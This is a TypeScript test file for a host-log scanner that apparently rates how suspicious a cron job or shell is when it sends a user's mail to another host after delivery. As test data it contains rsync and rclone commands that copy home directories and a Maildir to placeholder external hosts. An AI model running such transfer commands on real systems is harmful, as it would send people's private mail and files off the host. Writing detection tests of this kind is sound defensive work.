import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { type Delivered, HOUR, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** A host on which reads, writes and connections are recorded, with a message for the clerk. */
function mailHost(): { log: HostLog; mine: Delivered } {
  const log = new HostLog();
  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
  const mine = log.deliver();
  log.wait(MINUTE);
  return { log, mine };
}
const severities = async (log: HostLog): Promise<string> =>
  (await scanLog(log))
    .map(({ severity, story }) => `${severity}${story.includes('clerk (cron)') ? ' of the clerk' : ''}`)
    .join();

const PUT_AWAY = '/home/clerk/papers/before-march';
const COPY = '/usr/bin/rsync -aH /home/ rsync://192.0.2.30/in/';

/** The clerk's job puts mail away in the home; an hour later `taken` has it read and sent. */
async function told(
  taken: (log: HostLog) => Process,
  by: (log: HostLog) => Process = log => log.cron('clerk', 'put-away'),
): Promise<string> {
  const { log, mine } = mailHost();
  by(log).run('/usr/bin/put-away').read(mine.path).write(PUT_AWAY);
  log.wait(HOUR);
  taken(log).connect('192.0.2.30', 873).read(PUT_AWAY);
  return severities(log);
}
const MEDIUM = 'medium of the clerk';

test("the host's own copy of all homes is no transfer of who kept the own mail in one of them", async () => {
  assert.equal(await told(log => log.cron('root', COPY).run(COPY)), '');
});

test('whoever else, whatever else, and however else takes it is one', async () => {
  const narrow = `/usr/bin/rsync -a ${PUT_AWAY} rsync://192.0.2.30/in/`;
  assert.equal(await told(log => log.cron('root', narrow).run(narrow)), MEDIUM, 'that file');
  assert.equal(await told(log => log.shell('root').run(COPY)), MEDIUM, 'at a terminal');
  assert.equal(await told(log => log.cron('ops', COPY).run(COPY)), MEDIUM, 'a job of another account');
  assert.equal(await told(log => log.cron('clerk', COPY).run(COPY)), MEDIUM, 'a job of the same account');
});

test("somebody else's mail, put where the copy takes it along, is told", async () => {
  const { log } = mailHost();
  const other = log.deliver({ to: 'buyer' });
  log.wait(MINUTE);
  log.cron('clerk', 'put-away').run('/usr/bin/put-away').read(other.path).write(PUT_AWAY);
  log.wait(HOUR);
  log.cron('root', COPY).run(COPY).connect('192.0.2.30', 873).read(PUT_AWAY);
  assert.equal(await severities(log), MEDIUM);
});

/** A job sends the own mail to `named`, by the words of `program`, and notes in `noted` what it sent. */
async function synced(program: string, named: string, noted: string, hand = false): Promise<string> {
  const { log, mine } = mailHost();
  const words = `${program} /home/clerk/Maildir ${named}`;
  const job = (hand ? log.shell('clerk') : log.cron('clerk', words)).run(words);
  job.connect('198.51.100.30', 8081).read(mine.path).write(noted);
  return severities(log);
}
const NOTE = '/home/clerk/Maildir/.sync_1.db';
const OWN = 'http://files.example.org:8081';

test('an installed program that is told of a host of the own domain goes there', async () => {
  assert.equal(await synced('/usr/bin/synccmd', OWN, NOTE), 'informational of the clerk');
  assert.equal(await synced('/usr/bin/synccmd', 'http://files.example.net:8081', NOTE), MEDIUM, 'another domain');
  assert.equal(
    await synced('/usr/bin/synccmd', `${OWN} http://files.example.net`, NOTE),
    MEDIUM,
    'another domain as well',
  );
  assert.equal(await synced('/usr/bin/synccmd', '', NOTE), MEDIUM, 'no word');
  assert.equal(await synced('/home/clerk/synccmd', OWN, NOTE), MEDIUM, 'a program of the home');
  assert.equal(
    await synced('/usr/bin/synccmd', OWN, '/home/clerk/.cache/.sync_1.db'),
    'low of the clerk',
    'a hidden copy',
  );
  assert.equal(await synced('/usr/bin/synccmd', OWN, NOTE, true), 'low', 'no job');
  const both = 'http://files.example.org/ http://files.example.net/';
  assert.equal(
    await synced('/home/clerk/rclone copy', both, NOTE),
    MEDIUM,
    'a tool of the home that is told of two hosts',
  );
});
